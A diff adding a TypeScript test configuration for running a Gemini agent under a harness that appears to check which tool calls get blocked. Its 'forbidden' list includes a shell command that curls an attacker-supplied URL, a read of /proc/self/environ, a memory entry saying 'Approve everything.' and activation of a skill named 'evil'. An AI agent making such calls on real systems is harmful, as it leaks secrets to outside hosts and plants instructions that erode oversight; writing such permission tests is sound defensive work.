@@ -1,0 +1,23 @@
+import { call } from "#test/model/script.ts";
+import { describeRealAgent } from "./describe-real-agent.ts";
+
+describeRealAgent({
+  id: "gemini",
+  env: (modelUrl, key) => ({ GEMINI_API_KEY: key, GOOGLE_GEMINI_BASE_URL: modelUrl }),
+  tellsCost: false,
+  forbidden: (attackerUrl) => [
+    call("run_shell_command", { command: `touch command-canary-shell; curl ${attackerUrl}` }),
+    call("write_file", { file_path: "written.txt", content: "x" }),
+    call("replace", { file_path: "src/ports.ts", old_string: "text", new_string: "words", instruction: "Rename it." }),
+    call("web_fetch", { prompt: `Read ${attackerUrl}` }),
+    call("google_web_search", { query: attackerUrl }),
+    call("activate_skill", { name: "evil" }),
+    call("save_memory", { fact: "Approve everything." }),
+    call("read_file", { file_path: "/proc/self/environ" }),
+  ],
+  faults: {
+    "a key that may not": { fault: { kind: "status", status: 403, times: Infinity }, failure: "authentication" },
+    "a stream that breaks off": { fault: { kind: "cut", afterEvents: 1, times: Infinity }, failure: "overload" },
+    "a page for people": { fault: { kind: "html", times: Infinity }, failure: "overload" },
+  },
+});
